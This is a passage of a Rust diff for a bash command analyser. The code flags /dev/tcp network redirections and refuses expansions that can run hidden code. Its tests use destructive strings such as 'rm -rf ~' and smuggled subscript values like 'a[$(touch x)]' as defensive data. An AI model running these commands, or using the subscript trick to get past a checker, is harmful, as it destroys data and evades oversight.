+                    "`{}` is not a form of `{name}` runner follows",
+                    argv.iter()
+                        .map(|w| w.raw.as_str())
+                        .collect::<Vec<_>>()
+                        .join(" ")
+                ));
+            }
+        };
+        let before = self.cwds.clone();
+        if name == "pushd" {
+            self.dirstack.push(before.clone());
+        }
+        // A `cd` may fail and leave the shell where it was.
+        let mut cwds = targets;
+        for b in &before {
+            if !cwds.contains(b) {
+                cwds.push(b.clone());
+            }
+        }
+        if cwds.len() > MAX_CWDS {
+            return unanalysable("the command changes directory too many ways to follow");
+        }
+        self.oldpwd = Some(before);
+        self.cwds = cwds;
+        Ok(())
+    }
+
+    /// `NAME=value` before a command or alone.
     fn assignment(
         &mut self,
         a: &brush_parser::ast::Assignment,
-    ) -> Result<(String, bool), Unanalysable> {
+    ) -> Result<EnvAssignment, Unanalysable> {
         use brush_parser::ast::{AssignmentName, AssignmentValue};
         let name = match &a.name {
             AssignmentName::VariableName(n) => n.clone(),
-            AssignmentName::ArrayElementName(n, _) => {
-                return unanalysable(format!("it assigns an array element of `{n}`"));
+            AssignmentName::ArrayElementName(n, index) => {
+                if !inert_arithmetic(index) {
+                    return unanalysable(format!(
+                        "it assigns `{n}[{index}]`, whose subscript is evaluated as arithmetic"
+                    ));
+                }
+                n.clone()
             }
         };
         let static_value = match &a.value {
@@ -496,14 +1109,20 @@ impl Walker {
             AssignmentValue::Array(items) => {
                 for (k, v) in items {
                     if let Some(k) = k {
-                        self.word(k)?;
+                        let key = self.word(k)?;
+                        if key.dynamic || !inert_arithmetic(&key.text) {
+                            return unanalysable(format!(
+                                "an array element key `[{}]` is evaluated as arithmetic",
+                                k.value
+                            ));
+                        }
                     }
                     self.word(v)?;
                 }
                 false
             }
         };
-        Ok((name, static_value))
+        Ok(EnvAssignment { name, static_value })
     }
 
     fn item(
@@ -518,7 +1137,9 @@ impl Walker {
                 Ok(())
             }
             // `export FOO=bar`, `declare x=1`: an argument word.
-            CommandPrefixOrSuffixItem::AssignmentWord(_, w) => {
+            CommandPrefixOrSuffixItem::AssignmentWord(a, w) => {
+                // Checks subscripts and array keys, which are evaluated as arithmetic.
+                self.assignment(a)?;
                 words.push(self.word(w)?);
                 Ok(())
             }
@@ -547,11 +1168,15 @@ impl Walker {
             IoRedirect::File(_, kind, target) => match target {
                 IoFileRedirectTarget::Filename(w) => match kind {
                     IoFileRedirectKind::Read => {
+                        self.stdin = Stdin::Unknown;
                         let word = self.word(w)?;
+                        if self.network(&word) {
+                            return Ok(());
+                        }
                         self.out.reads.push(FileRead {
                             word,
-                            cwd: self.cwd.clone(),
-                            alt_cwd: self.alt_cwd(),
+                            cwd: self.cwds[0].clone(),
+                            other_cwds: self.cwds[1..].to_vec(),
                         });
                         Ok(())
                     }
@@ -585,18 +1210,61 @@ impl Walker {
                         .map_err(|e| Unanalysable {
                             reason: format!("its here-document could not be parsed ({e})"),
                         })?;
-                    let mut acc = ArgWord::default();
+                    let mut acc = Acc {
+                        word: ArgWord::default(),
+                        pattern: None,
+                    };
                     self.pieces(&pieces, true, &mut acc)?;
+                    self.stdin = if acc.word.dynamic {
+                        Stdin::Unknown
+                    } else {
+                        Stdin::Static(acc.word.text)
+                    };
+                } else {
+                    self.stdin = Stdin::Static(doc.doc.value.clone());
                 }
                 Ok(())
             }
-            IoRedirect::HereString(_, w) => self.word(w).map(|_| ()),
+            IoRedirect::HereString(_, w) => {
+                let a = self.word(w)?;
+                self.stdin = if a.dynamic {
+                    Stdin::Unknown
+                } else {
+                    Stdin::Static(a.text)
+                };
+                Ok(())
+            }
             IoRedirect::OutputAndError(w, _) => self.write_target(w),
         }
     }
 
+    /// Whether a redirection word names bash's network pseudo-files (`/dev/tcp/...`,
+    /// `/dev/udp/...`), or may (a dynamic word whose known start could lead there); recorded
+    /// as network access.
+    fn network(&mut self, a: &ArgWord) -> bool {
+        let hit = self.cwds.iter().any(|base| {
+            let lexical = crate::roots::normalize_lexically(&base.join(&a.text));
+            let s = lexical.to_string_lossy();
+            let s = if a.text.ends_with('/') && !s.ends_with('/') {
+                format!("{s}/")
+            } else {
+                s.into_owned()
+            };
+            ["/dev/tcp/", "/dev/udp/"].iter().any(|n| {
+                s.starts_with(n) || s == n.trim_end_matches('/') || (a.dynamic && n.starts_with(&s))
+            })
+        });
+        if hit {
+            self.out.network.push(a.raw.clone());
+        }
+        hit
+    }
+
     fn write_target(&mut self, w: &Word) -> Result<(), Unanalysable> {
         let a = self.word(w)?;
+        if self.network(&a) {
+            return Ok(());
+        }
         if a.dynamic {
             return unanalysable(format!(
                 "the redirect target `{}` depends on an expansion",
@@ -609,12 +1277,23 @@ impl Walker {
         if a.text.is_empty() {
             return unanalysable("a redirect target is empty");
         }
-        let path = paths::resolve(&self.cwd, Path::new(&a.text));
-        let alt = paths::resolve(&self.start_cwd, Path::new(&a.text));
+        let mut resolved = self
+            .cwds
+            .iter()
+            .map(|b| paths::resolve(b, Path::new(&a.text)));
+        let Some(path) = resolved.next() else {
+            return Ok(());
+        };
+        let mut other_paths: Vec<PathBuf> = Vec::new();
+        for p in resolved {
+            if p != path && !other_paths.contains(&p) {
+                other_paths.push(p);
+            }
+        }
         self.out.writes.push(FileWrite {
             target: a.text,
-            alt_path: (alt != path).then_some(alt),
             path,
+            other_paths,
         });
         Ok(())
     }
@@ -624,19 +1303,26 @@ impl Walker {
         let pieces = brush_parser::word::parse(&w.value, &self.opts).map_err(|e| Unanalysable {
             reason: format!("the word `{}` could not be parsed ({e})", w.value),
         })?;
-        let mut acc = ArgWord {
-            raw: w.value.clone(),
-            ..ArgWord::default()
+        let mut acc = Acc {
+            word: ArgWord {
+                raw: w.value.clone(),
+                ..ArgWord::default()
+            },
+            pattern: Some(String::new()),
         };
         self.pieces(&pieces, false, &mut acc)?;
-        Ok(acc)
+        let mut word = acc.word;
+        if word.dynamic && !word.expands {
+            word.glob = acc.pattern;
+        }
+        Ok(word)
     }
 
     fn pieces(
         &mut self,
         pieces: &[WordPieceWithSource],
         in_dq: bool,
-        acc: &mut ArgWord,
+        acc: &mut Acc,
     ) -> Result<(), Unanalysable> {
         for p in pieces {
             match &p.piece {
@@ -645,18 +1331,22 @@ impl Walker {
                     match glob_at {
                         Some(i) => {
                             push_static(acc, &s[..i]);
-                            acc.dynamic = true;
-                            acc.home_rest = None;
+                            acc.word.dynamic = true;
+                            acc.word.home_rest = None;
+                            if let Some(pat) = &mut acc.pattern {
+                                pat.push_str(&s[i..]);
+                            }
                         }
+                        None if in_dq => push_quoted(acc, s),
                         None => push_static(acc, s),
                     }
                 }
-                WordPiece::SingleQuotedText(s) => push_static(acc, s),
+                WordPiece::SingleQuotedText(s) => push_quoted(acc, s),
                 WordPiece::AnsiCQuotedText(s) => {
                     if s.contains('\\') {
-                        expanded(acc);
+                        expanded(acc, false);
                     } else {
-                        push_static(acc, s);
+                        push_quoted(acc, s);
                     }
                 }
                 WordPiece::DoubleQuotedSequence(inner)
@@ -664,45 +1354,220 @@ impl Walker {
                     self.pieces(inner, true, acc)?;
                 }
                 WordPiece::TildeExpansion(t) => {
-                    let at_start = !acc.dynamic && acc.text.is_empty();
-                    expanded(acc);
+                    let at_start = !acc.word.dynamic && acc.word.text.is_empty();
+                    expanded(acc, false);
                     if at_start && matches!(t, brush_parser::word::TildeExpr::Home) {
-                        acc.home_rest = Some(String::new());
+                        acc.word.home_rest = Some(String::new());
                     }
                 }
                 WordPiece::ParameterExpansion(expr) => {
                     check_parameter(expr)?;
-                    expanded(acc);
+                    expanded(acc, !in_dq);
                 }
                 WordPiece::CommandSubstitution(body)
                 | WordPiece::BackquotedCommandSubstitution(body) => {
                     let body = body.clone();
                     self.isolated(|w| w.source(&body))?;
-                    expanded(acc);
+                    expanded(acc, !in_dq);
                 }
                 WordPiece::EscapeSequence(s) => {
                     let rest = s.strip_prefix('\\').unwrap_or(s);
                     if rest == "\n" {
                         // Line continuation.
                     } else if in_dq && !matches!(rest, "$" | "`" | "\"" | "\\") {
-                        push_static(acc, s);
+                        push_quoted(acc, s);
                     } else {
-                        push_static(acc, rest);
+                        push_quoted(acc, rest);
                     }
                 }
                 WordPiece::ArithmeticExpression(e) => {
-                    if has_nested_code(&e.value) {
+                    if !inert_arithmetic(&e.value) {
                         return unanalysable(format!(
-                            "an arithmetic expansion `$(({}))` contains a substitution",
+                            "the arithmetic expansion `$(({}))` evaluates something other than numbers (a variable may hold `a[$(cmd)]`, which runs cmd)",
                             e.value
                         ));
                     }
-                    expanded(acc);
+                    expanded(acc, !in_dq);
                 }
             }
         }
         Ok(())
     }
+}
+
+/// The commands `find -exec`/`-execdir`/`-ok`/`-okdir` runs, with `{}` as a word runner cannot
+/// see; the flag is whether it runs in each file's directory (`-execdir`, `-okdir`).
+fn find_exec(argv: &[ArgWord]) -> Result<Vec<(Vec<ArgWord>, bool)>, Unanalysable> {
+    if argv.first().map(|w| w.text.as_str()) != Some("find") {
+        return Ok(vec![]);
+    }
+    let mut out = Vec::new();
+    let mut i = 1;
+    while let Some(w) = argv.get(i) {
+        i += 1;
+        let in_dir = match w.text.as_str() {
+            "-exec" | "-ok" => false,
+            "-execdir" | "-okdir" => true,
+            _ => continue,
+        };
+        let mut words = Vec::new();
+        loop {
+            let Some(x) = argv.get(i) else {
+                return unanalysable(format!("`find {}` is not terminated by `;` or `+`", w.text));
+            };
+            i += 1;
+            if !x.dynamic
+                && (x.text == ";"
+                    || (x.text == "+" && words.last().is_some_and(|l: &ArgWord| l.raw == "{}")))
+            {
+                break;
+            }
+            if x.text.contains("{}") {
+                words.push(ArgWord::unseen(&x.raw));
+            } else {
+                words.push(x.clone());
+            }
+        }
+        if words.is_empty() {
+            return unanalysable(format!("`find {}` names no command", w.text));
+        }
+        out.push((words, in_dir));
+    }
+    Ok(out)
+}
+
+/// GNU `parallel`'s command, as the shell code it runs for each input (with inputs runner
+/// cannot see): its words joined by spaces.
+fn parallel_script(argv: &[ArgWord]) -> Result<Option<String>, Unanalysable> {
+    let Some(name) = argv.first() else {
+        return Ok(None);
+    };
+    if name.text.rsplit('/').next() != Some("parallel") {
+        return Ok(None);
+    }
+    let mut i = 1;
+    while let Some(w) = argv.get(i) {
+        if w.dynamic {
+            return unanalysable(format!(
+                "runner cannot tell which command `parallel` runs: `{}` is expanded at run time",
+                w.raw
+            ));
+        }
+        let t = w.text.as_str();
+        match t {
+            "-k" | "--keep-order" | "-0" | "--null" | "--bar" | "--eta" | "-v" | "--tag"
+            | "--line-buffer" | "--will-cite" | "-X" | "-m" | "--group" | "-u" | "--ungroup" => {
+                i += 1
+            }
+            "-j" | "--jobs" | "-n" | "--max-args" | "-N" | "-I" | "--colsep" | "-C" | "--halt"
+            | "--delay" | "--timeout" | "-L" | "--max-lines" => i += 2,
+            _ if t.starts_with("-j") && t[2..].chars().all(|c| c.is_ascii_digit()) => i += 1,
+            _ if t.starts_with('-') => {
+                return unanalysable(format!(
+                    "runner cannot tell which command `parallel` runs: `{t}` is not understood"
+                ));
+            }
+            _ => break,
+        }
+    }
+    let mut words = Vec::new();
+    for w in &argv[i.min(argv.len())..] {
+        if w.text.starts_with(":::") || w.text == "::::" {
+            break;
+        }
+        words.push(w.raw.clone());
+    }
+    if words.is_empty() {
+        return unanalysable("`parallel` without a command runs its input lines as commands");
+    }
+    Ok(Some(words.join(" ")))
+}
+
+/// Whether a simple command has a redirection.
+fn has_redirect(s: &SimpleCommand) -> bool {
+    s.prefix
+        .iter()
+        .flat_map(|p| p.0.iter())
+        .chain(s.suffix.iter().flat_map(|p| p.0.iter()))
+        .any(|i| matches!(i, CommandPrefixOrSuffixItem::IoRedirect(_)))
+}
+
+/// The variables `{NAME}>file` redirections assign (bash stores the file descriptor it opened
+/// in `NAME`, and keeps it for builtins: `echo x {PATH}>/dev/null` sets `PATH`). The parser
+/// reads `{NAME}` as a word, so in a command with redirections every word of that form counts
+/// as such an assignment.
+fn fd_variables(words: &[ArgWord]) -> Result<Vec<EnvAssignment>, Unanalysable> {
+    let mut out = Vec::new();
+    for w in words {
+        let Some(inner) = w.raw.strip_prefix('{').and_then(|r| r.strip_suffix('}')) else {
+            continue;
+        };
+        let ident_len = inner
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+            .count();
+        let starts_ok = inner
+            .chars()
+            .next()
+            .is_some_and(|c| c.is_ascii_alphabetic() || c == '_');
+        let rest = &inner[ident_len..];
+        if starts_ok && (rest.is_empty() || (rest.starts_with('[') && rest.ends_with(']'))) {
+            out.push(assigned(inner, false)?);
+        }
+    }
+    Ok(out)
+}
+
+/// A variable a builtin assigns: `name` must be a plain identifier (an array element's
+/// subscript is evaluated as arithmetic).
+fn assigned(name: &str, static_value: bool) -> Result<EnvAssignment, Unanalysable> {
+    let base = match name.split_once('[') {
+        Some((n, rest)) => {
+            let index = rest.strip_suffix(']').unwrap_or(rest);
+            if !inert_arithmetic(index) {
+                return unanalysable(format!(
+                    "it assigns `{name}`, whose subscript is evaluated as arithmetic"
+                ));
+            }
+            n
+        }
+        None => name,
+    };
+    let mut c = base.chars();
+    if !(c
+        .next()
+        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && c.all(|c| c.is_ascii_alphanumeric() || c == '_'))
+    {
+        return unanalysable(format!("it assigns `{name}`, which is not a variable name"));
+    }
+    Ok(EnvAssignment {
+        name: base.to_string(),
+        static_value,
+    })
+}
+
+/// Whether an arithmetic expression holds only numbers and operators: no variable (whose value
+/// would itself be evaluated, and may be `a[$(cmd)]`), no expansion, no subscript.
+pub fn inert_arithmetic(expr: &str) -> bool {
+    let mut chars = expr.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '0'..='9' => {
+                // A number: decimal, 0x.., 0.., or base#digits (digits may be letters, @, _).
+                while chars
+                    .peek()
+                    .is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, '#' | '@' | '_'))
+                {
+                    chars.next();
+                }
+            }
+            ' ' | '\t' | '\n' | '+' | '-' | '*' | '/' | '%' | '<' | '>' | '=' | '!' | '&' | '|'
+            | '^' | '~' | '?' | ':' | ',' | '(' | ')' => {}
+            _ => return false,
+        }
+    }
+    true
 }
 
 /// Where unquoted text starts being a pattern: `*`, `?`, `[...]`, `{a,b}`/`{1..3}` brace
@@ -725,49 +1590,264 @@ fn glob_start(s: &str) -> Option<usize> {
     None
 }
 
-fn push_static(acc: &mut ArgWord, s: &str) {
-    if let Some(rest) = &mut acc.home_rest {
+fn push_static(acc: &mut Acc, s: &str) {
+    let w = &mut acc.word;
+    if let Some(rest) = &mut w.home_rest {
         rest.push_str(s);
     }
-    if !acc.dynamic {
-        acc.text.push_str(s);
+    if !w.dynamic {
+        w.text.push_str(s);
+    }
+    if let Some(pat) = &mut acc.pattern {
+        pat.push_str(s);
     }
 }
 
-/// Mark `acc` as holding a run-time expansion (not just a glob).
-fn expanded(acc: &mut ArgWord) {
-    acc.dynamic = true;
-    acc.expands = true;
-    acc.home_rest = None;
+/// Static text that came from quotes: glob characters in it are literal.
+fn push_quoted(acc: &mut Acc, s: &str) {
+    let w = &mut acc.word;
+    if let Some(rest) = &mut w.home_rest {
+        rest.push_str(s);
+    }
+    if !w.dynamic {
+        w.text.push_str(s);
+    }
+    if let Some(pat) = &mut acc.pattern {
+        for c in s.chars() {
+            if matches!(
+                c,
+                '*' | '?' | '[' | ']' | '{' | '}' | ',' | '\\' | '(' | ')'
+            ) {
+                pat.push('\\');
+            }
+            pat.push(c);
+        }
+    }
 }
 
-fn has_nested_code(s: &str) -> bool {
-    s.contains("$(") || s.contains('`') || s.contains("<(") || s.contains(">(")
+/// Mark `acc` as holding a run-time expansion (not just a glob); `splits` when unquoted.
+fn expanded(acc: &mut Acc, splits: bool) {
+    let w = &mut acc.word;
+    w.dynamic = true;
+    w.expands = true;
+    w.splits |= splits;
+    w.home_rest = None;
+    acc.pattern = None;
 }
 
-/// `${...}` forms: plain reads are fine; assignment, prompt expansion and nested code are not.
+/// Whether a string nested in `${...}` (a default, a pattern, a replacement) holds code: a
+/// substitution, an arithmetic expansion or a nested `${...}` (which could be indirect or
+/// subscripted).
+fn nested_code(s: &str) -> bool {
+    s.contains("$(")
+        || s.contains('`')
+        || s.contains("<(")
+        || s.contains(">(")
+        || s.contains("${")
+        || s.contains("$[")
+}
+
+/// `${...}` forms: plain reads are fine; assignment, prompt expansion, indirection, arithmetic
+/// over anything but numbers (subscripts, substring offsets) and nested code are not.
 fn check_parameter(expr: &ParameterExpr) -> Result<(), Unanalysable> {
-    if matches!(expr, ParameterExpr::AssignDefaultValues { .. }) {
-        return unanalysable("a `${name:=value}` expansion assigns a variable");
+    use ParameterExpr as P;
+    let (parameter, indirect, nested): (Option<&Parameter>, bool, Vec<&str>) = match expr {
+        P::Parameter {
+            parameter,
+            indirect,
+        }
+        | P::ParameterLength {
+            parameter,
+            indirect,
+        } => (Some(parameter), *indirect, vec![]),
+        P::UseDefaultValues {
+            parameter,
+            indirect,
+            default_value,
+            ..
+        } => (
+            Some(parameter),
+            *indirect,
+            default_value.iter().map(String::as_str).collect(),
+        ),
+        P::AssignDefaultValues { .. } => {
+            return unanalysable("a `${name:=value}` expansion assigns a variable");
+        }
+        P::IndicateErrorIfNullOrUnset {
+            parameter,
+            indirect,
+            error_message,
+            ..
+        } => (
+            Some(parameter),
+            *indirect,
+            error_message.iter().map(String::as_str).collect(),
+        ),
+        P::UseAlternativeValue {
+            parameter,
+            indirect,
+            alternative_value,
+            ..
+        } => (
+            Some(parameter),
+            *indirect,
+            alternative_value.iter().map(String::as_str).collect(),
+        ),
+        P::RemoveSmallestSuffixPattern {
+            parameter,
+            indirect,
+            pattern,
+        }
+        | P::RemoveLargestSuffixPattern {
+            parameter,
+            indirect,
+            pattern,
+        }
+        | P::RemoveSmallestPrefixPattern {
+            parameter,
+            indirect,
+            pattern,
+        }
+        | P::RemoveLargestPrefixPattern {
+            parameter,
+            indirect,
+            pattern,
+        }
+        | P::UppercaseFirstChar {
+            parameter,
+            indirect,
+            pattern,
+        }
+        | P::UppercasePattern {
+            parameter,
+            indirect,
+            pattern,
+        }
+        | P::LowercaseFirstChar {
+            parameter,
+            indirect,
+            pattern,
+        }
+        | P::LowercasePattern {
+            parameter,
+            indirect,
+            pattern,
+        } => (
+            Some(parameter),
+            *indirect,
+            pattern.iter().map(String::as_str).collect(),
+        ),
+        P::Substring {
+            parameter,
+            indirect,
+            offset,
+            length,
+        } => {
+            for e in std::iter::once(offset).chain(length.iter()) {
+                if !inert_arithmetic(&e.value) {
+                    return unanalysable(format!(
+                        "a substring offset `{}` is evaluated as arithmetic over something other than numbers",
+                        e.value
+                    ));
+                }
+            }
+            (Some(parameter), *indirect, vec![])
+        }
+        P::Transform { .. } => {
+            return unanalysable("a `${name@op}` transformation is not analysed");
+        }
+        P::ReplaceSubstring {
+            parameter,
+            indirect,
+            pattern,
+            replacement,
+            ..
+        } => {
+            let mut n = vec![pattern.as_str()];
+            n.extend(replacement.iter().map(String::as_str));
+            (Some(parameter), *indirect, n)
+        }
+        // `${!prefix*}` and `${!array[@]}` list names and keys; nothing is evaluated.
+        P::VariableNames { .. } | P::MemberKeys { .. } => (None, false, vec![]),
+    };
+    if indirect {
+        return unanalysable(
+            "an indirect expansion `${!name}` evaluates the value of a variable as a name (it may hold `a[$(cmd)]`)",
+        );
     }
-    if matches!(expr, ParameterExpr::Transform { .. }) {
-        return unanalysable("a `${name@op}` transformation is not analysed");
+    if let Some(Parameter::NamedWithIndex { name, index }) = parameter
+        && !inert_arithmetic(index)
+    {
+        return unanalysable(format!(
+            "the subscript of `${{{name}[{index}]}}` is evaluated as arithmetic over something other than numbers"
+        ));
     }
-    // Nested strings (defaults, patterns, subscripts) stay unparsed in brush's AST: refuse any
-    // substitution inside them rather than guess.
-    if has_nested_code(&format!("{expr:?}")) {
-        return unanalysable("a `${...}` expansion contains a substitution");
+    if let Some(s) = nested.iter().find(|s| nested_code(s)) {
+        return unanalysable(format!(
+            "a `${{...}}` expansion contains a substitution or a nested expansion (`{s}`)"
+        ));
     }
     Ok(())
 }
 
-/// Shells whose `-c SCRIPT` is analysed as part of the command.
-const SHELLS: &[&str] = &["bash", "sh", "dash", "zsh", "ksh"];
+/// The shell name of `argv` when it is a shell other than bash that runs code (a `-c` script,
+/// a script file, or commands from its input). Names are compared the way shells are installed:
+/// path-qualified, with a version suffix (`zsh-5.9`, `ksh93`, `python3.12`-style dots) and as
+/// restricted variants (`rzsh`, `rksh`).
+fn foreign_shell(argv: &[ArgWord]) -> Option<String> {
+    let name = argv.first()?;
+    let base = name.text.rsplit('/').next().unwrap_or_default();
+    foreign_shell_name(base).map(str::to_string)
+}
 
-/// For `bash -c SCRIPT ...` (also `sh`, `dash`, `zsh`, `ksh`, path-qualified, with option
-/// clusters of `e`, `u`, `x`, `v` before or with the `c`): the script. A dynamic script is
-/// unanalysable; any other option (`-i`, `-l`, `-s`, `--rcfile`, ...) makes it an ordinary
-/// command that needs its own rule.
+/// The foreign shell `base` (a program's file name) is, if any.
+fn foreign_shell_name(base: &str) -> Option<&'static str> {
+    let stem =
+        base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-' || c == '_');
+    let restricted = stem.strip_prefix('r');
+    FOREIGN_SHELLS
+        .iter()
+        .find(|s| **s == stem || restricted == Some(**s))
+        .copied()
+}
+
+/// Whether a multi-call binary (`busybox`, `toybox`) wraps the command: its `sh` is ash, not
+/// bash.
+fn multicall_shell(layers: &[Layer], argv: &[ArgWord]) -> Option<String> {
+    let name = argv.first()?;
+    let base = name.text.rsplit('/').next().unwrap_or_default();
+    let wrapped = layers
+        .iter()
+        .any(|l| matches!(l.name.rsplit('/').next(), Some("busybox" | "toybox")));
+    (wrapped && SHELLS.contains(&base)).then(|| format!("busybox {base}"))
+}
+
+/// For a bash or sh that reads its commands from its standard input (no script operand, or
+/// `-s`): its name.
+fn shell_reading_input(argv: &[ArgWord]) -> Option<String> {
+    let name = argv.first()?;
+    let base = name.text.rsplit('/').next().unwrap_or_default();
+    if name.dynamic || !SHELLS.contains(&base) {
+        return None;
+    }
+    let mut stdin_flag = false;
+    for w in &argv[1..] {
+        let t = w.text.as_str();
+        if w.dynamic {
+            return None;
+        }
+        if t == "--" || !t.starts_with('-') || t.len() < 2 {
+            // A script operand (or positional parameters after `-s`).
+            return stdin_flag.then(|| base.to_string());
+        }
+        stdin_flag |= !t.starts_with("--") && t.contains('s');
+    }
+    Some(base.to_string())
+}
+
+/// For `bash -c SCRIPT ...` (also `sh`, path-qualified, with option clusters of `e`, `u`, `x`,
+/// `v` before or with the `c`): the script. A dynamic script is unanalysable; any other option
+/// (`-i`, `-l`, `-s`, `--rcfile`, ...) makes it an ordinary command that needs its own rule.
 fn shell_script(argv: &[ArgWord]) -> Result<Option<String>, Unanalysable> {
     let Some(name) = argv.first() else {
         return Ok(None);
@@ -802,106 +1882,6 @@ fn shell_script(argv: &[ArgWord]) -> Result<Option<String>, Unanalysable> {
     }
 }
 
-/// Skip wrapper commands; returns the index of the real command and whether a bare `xargs`
-/// feeds it arguments from stdin. A wrapper whose options are not understood is not stripped.
-fn strip_wrappers(words: &[ArgWord]) -> (usize, bool) {
-    let mut i = 0;
-    let mut from_stdin = false;
-    let st =
-        |j: usize| -> Option<&str> { words.get(j).filter(|w| !w.dynamic).map(|w| w.text.as_str()) };
-    while let Some(name) = st(i) {
-        let mut j = i + 1;
-        let ok = match name {
-            "time" => {
-                if st(j) == Some("-p") {
-                    j += 1;
-                }
-                true
-            }
-            "nohup" | "builtin" => true,
-            "command" => match st(j) {
-                Some("-p") => {
-                    j += 1;
-                    true
-                }
-                Some(a) => !a.starts_with('-'),
-                None => false,
-            },
-            "nice" => {
-                match st(j) {
-                    Some("-n") => j += 2,
-                    Some(a)
-                        if a.starts_with("--adjustment=")
-                            || (a.len() > 1
-                                && a.starts_with('-')
-                                && a[1..].chars().all(|c| c.is_ascii_digit())) =>
-                    {
-                        j += 1
-                    }
-                    _ => {}
-                }
-                true
-            }
-            "timeout" => {
-                loop {
-                    match st(j) {
-                        Some("--foreground" | "--preserve-status" | "-v" | "--verbose") => j += 1,
-                        Some("-s" | "-k" | "--signal" | "--kill-after") => j += 2,
-                        Some(a) if a.starts_with("--signal=") || a.starts_with("--kill-after=") => {
-                            j += 1
-                        }
-                        _ => break,
-                    }
-                }
-                // The duration.
-                match st(j) {
-                    Some(d)
-                        if !d.starts_with('-')
-                            && d.chars().next().is_some_and(|c| c.is_ascii_digit()) =>
-                    {
-                        j += 1;
-                        true
-                    }
-                    _ => false,
-                }
-            }
-            "stdbuf" => {
-                loop {
-                    match st(j) {
-                        Some("-i" | "-o" | "-e") => j += 2,
-                        Some(a)
-                            if (a.len() > 2
-                                && (a.starts_with("-i")
-                                    || a.starts_with("-o")
-                                    || a.starts_with("-e")))
-                                || a.starts_with("--input=")
-                                || a.starts_with("--output=")
-                                || a.starts_with("--error=") =>
-                        {
-                            j += 1
-                        }
-                        _ => break,
-                    }
-                }
-                true
-            }
-            "xargs" => match st(j) {
-                Some(a) if !a.starts_with('-') => {
-                    from_stdin = true;
-                    true
-                }
-                _ => false,
-            },
-            _ => break,
-        };
-        if !ok || j >= words.len() {
-            break;
-        }
-        i = j;
-    }
-    (i, from_stdin)
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -910,11 +1890,15 @@ mod tests {
         a.commands.iter().map(|c| c.match_text(c.start).0).collect()
     }
 
+    fn w() -> &'static Path {
+        Path::new("/w")
+    }
+
     #[test]
     fn splits_every_operator_and_newline() {
         let a = analyse(
             "echo a | echo b | echo c\nrm -rf ~ && echo d; x || y & z |& w",
-            Path::new("/w"),
+            w(),
         )
         .unwrap();
         assert_eq!(
@@ -927,24 +1911,225 @@ mod tests {
 
     #[test]
     fn substitutions_are_analysed() {
-        let a = analyse("echo \"$(rm -rf x)\" `id` <(ls)", Path::new("/w")).unwrap();
+        let a = analyse("echo \"$(rm -rf x)\" `id` <(ls)", w()).unwrap();
         assert_eq!(names(&a), vec!["rm -rf x", "id", "ls", "echo "]);
     }
 
     #[test]
     fn unquoting_and_wrappers() {
-        let a = analyse("timeout 10 nice -n 5 'git' \"diff\" a\\ b", Path::new("/w")).unwrap();
+        let a = analyse("timeout 10 nice -n 5 'git' \"diff\" a\\ b", w()).unwrap();
         let c = &a.commands[0];
         assert_eq!(c.start, 5);
         assert_eq!(c.match_text(c.start), ("git diff a b".to_string(), false));
+        let layers: Vec<&str> = c.layers.iter().map(|l| l.name.as_str()).collect();
+        assert_eq!(layers, ["timeout", "nice"]);
     }
 
     #[test]
     fn redirect_targets_follow_cd() {
-        let a = analyse("cd sub && echo x > out.txt 2>/dev/null", Path::new("/w")).unwrap();
+        let a = analyse("cd sub && echo x > out.txt 2>/dev/null", w()).unwrap();
         assert_eq!(a.writes.len(), 1);
         assert_eq!(a.writes[0].path, PathBuf::from("/w/sub/out.txt"));
-        assert_eq!(a.writes[0].alt_path, Some(PathBuf::from("/w/out.txt")));
+        assert_eq!(a.writes[0].other_paths, vec![PathBuf::from("/w/out.txt")]);
+    }
+
+    #[test]
+    fn every_possible_directory_is_kept() {
+        let a = analyse("cd a; cd b; cat x", w()).unwrap();
+        let c = a.commands.last().unwrap();
+        let all: Vec<&Path> = c.cwds().collect();
+        for d in ["/w/a/b", "/w/b", "/w/a", "/w"] {
+            assert!(all.contains(&Path::new(d)), "{d} missing from {all:?}");
+        }
+        let a = analyse("cd -P sub && cd - && pushd x && popd && cat y", w()).unwrap();
+        assert!(
+            a.commands
+                .last()
+                .unwrap()
+                .cwds()
+                .any(|d| d == Path::new("/w"))
+        );
+    }
+
+    #[test]
+    fn untracked_directory_changes_are_refused() {
+        for cmd in [
+            "cd",
+            "cd ~",
+            "cd ~/x",
+            "cd $X",
+            "cd -",
+            "cd a b",
+            "pushd",
+            "pushd +1",
+            "popd",
+            "popd +1",
+            "cd -e",
+            "for d in a b; do cd $d; done",
+            "while true; do cd sub; done",
+            "for d in a b; do cd sub; done; cat x",
+            "command cd",
+            "builtin cd ~",
+        ] {
+            assert!(analyse(cmd, w()).is_err(), "{cmd}");
+        }
+    }
+
+    #[test]
+    fn arithmetic_over_anything_but_numbers_is_refused() {
+        for cmd in [
+            "V='a[$(touch x)]'; echo $((V))",
+            "echo $((V+1))",
+            "echo $[V]",
+            "echo ${A[V]}",
+            "echo ${A[$i]}",
+            "echo ${X:V}",
+            "echo ${X:1:n}",
+            "echo ${!X}",
+            "echo ${!X:-a}",
+            "echo \"${x:-${!y}}\"",
+            "echo ${x:-$((V))}",
+            "a[V]=1",
+            "a=([V]=1)",
+            "declare 'a[V]=1'",
+            "printf -v 'a[V]' x",
+            "read 'a[V]'",
+            "unset 'a[V]'",
+            "let x=V",
+            "declare -i n; n=V",
+            "declare -n r=PATH",
+            "(( V ))",
+            "for ((i=0;i<V;i++)); do :; done",
+            "[[ $V -eq 1 ]]",
+            "[[ -v a[V] ]]",
+            "cat <<EOF\n$((V))\nEOF",
+            "echo ${x@P}",
+        ] {
+            assert!(analyse(cmd, w()).is_err(), "{cmd}");
+        }
+        for cmd in [
+            "echo $((1+2)) $[3*4] $((16#ff)) $((0x1F))",
+            "echo ${A[0]} ${A[@]} ${!A[@]} ${!pre*} ${#x} ${x:1:2} ${x: -1}",
+            "echo ${x:-default} ${x#*/} ${x/a/b} ${x^^}",
+        ] {
+            assert!(analyse(cmd, w()).is_ok(), "{cmd}: {:?}", analyse(cmd, w()));
+        }
+    }
+
+    #[test]
+    fn every_assignment_form_is_seen() {
+        let sets = |cmd: &str| -> Vec<String> {
+            let a = analyse(cmd, w()).unwrap();
+            let mut out: Vec<String> = a.loop_variables.iter().map(|v| v.name.clone()).collect();
+            for c in &a.commands {
